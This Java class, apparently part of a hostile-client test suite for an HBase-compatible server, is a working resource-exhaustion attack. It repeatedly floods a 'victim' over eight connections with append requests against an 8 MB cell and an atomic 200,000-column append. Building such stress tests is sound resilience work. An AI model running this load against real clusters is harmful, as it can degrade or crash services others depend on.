package org.grampus.compat.suite.hostile;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.util.Collections;
import org.apache.hadoop.hbase.KeyValue;
import org.apache.hadoop.hbase.KeyValueUtil;
import org.apache.hadoop.hbase.shaded.protobuf.generated.ClientProtos.Action;
import org.apache.hadoop.hbase.shaded.protobuf.generated.ClientProtos.MultiRequest;
import org.apache.hadoop.hbase.shaded.protobuf.generated.ClientProtos.MutationProto;
import org.apache.hadoop.hbase.shaded.protobuf.generated.ClientProtos.MutationProto.MutationType;
import org.apache.hadoop.hbase.shaded.protobuf.generated.ClientProtos.RegionAction;
import org.apache.hadoop.hbase.util.Bytes;
import org.apache.hbase.thirdparty.com.google.protobuf.ByteString;

/**
 * Appends of a byte to a cell of 8 MB, twelve in a call: those with a known nonce write nothing and
 * answer with the cell. And an atomic append to 200,000 columns, whose results are messages.
 */
final class LargeAppends implements Attack {
  private static final int CONNECTIONS = 8;
  private static final int APPENDS = 12;
  private static final int COLUMNS = 200_000;
  private static final long NONCE = 77;

  private byte[] appends = {};
  private byte[] appendCells = {};
  private byte[] wide = {};
  private byte[] wideCells = {};

  @Override
  public String name() {
    return "appends";
  }

  @Override
  public void prepare(Victim victim) throws IOException {
    Action append = append(Tables.ROW, 1);
    RegionAction.Builder one =
        RegionAction.newBuilder()
            .setRegion(Victim.region(victim.large()))
            .addAllAction(Collections.nCopies(APPENDS, append));
    appends = MultiRequest.newBuilder().addRegionAction(one).build().toByteArray();
    appendCells = cells(APPENDS, Tables.ROW, 0);
    RegionAction.Builder atomic =
        RegionAction.newBuilder()
            .setRegion(Victim.region(victim.small()))
            .setAtomic(true)
            .addAction(append("wide", COLUMNS));
    wide = MultiRequest.newBuilder().addRegionAction(atomic).build().toByteArray();
    wideCells = cells(COLUMNS, "wide", 1);
  }

  private static Action append(String row, int cells) {
    return Action.newBuilder()
        .setMutation(
            MutationProto.newBuilder()
                .setRow(ByteString.copyFromUtf8(row))
                .setMutateType(MutationType.APPEND)
                .setNonce(NONCE)
                .setAssociatedCellCount(cells))
        .build();
  }

  /** Cells of one byte for a row; their columns count up by {@code step} from 0. */
  private static byte[] cells(int count, String row, int step) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    DataOutputStream out = new DataOutputStream(bytes);
    for (int i = 0; i < count; i++) {
      byte[] qualifier = Bytes.toBytes(i * step);
      KeyValueUtil.write(
          new KeyValue(Bytes.toBytes(row), Tables.FAMILY, qualifier, new byte[1]), out);
    }
    return bytes.toByteArray();
  }

  @Override
  public void run(Victim victim) throws Exception {
    while (!victim.isOver()) {
      try (Connections connections = new Connections()) {
        int[] address = {0};
        connections.open(CONNECTIONS, () -> victim.connect(1 + address[0]++ / 2));
        connections.each(wire -> wire.send("Multi", appends, appendCells));
        connections.each(Wire::skipReply);
        connections.each(wire -> wire.send("Multi", wide, wideCells));
        connections.each(Wire::skipReply);
        victim.pause();
      }
    }
  }
}
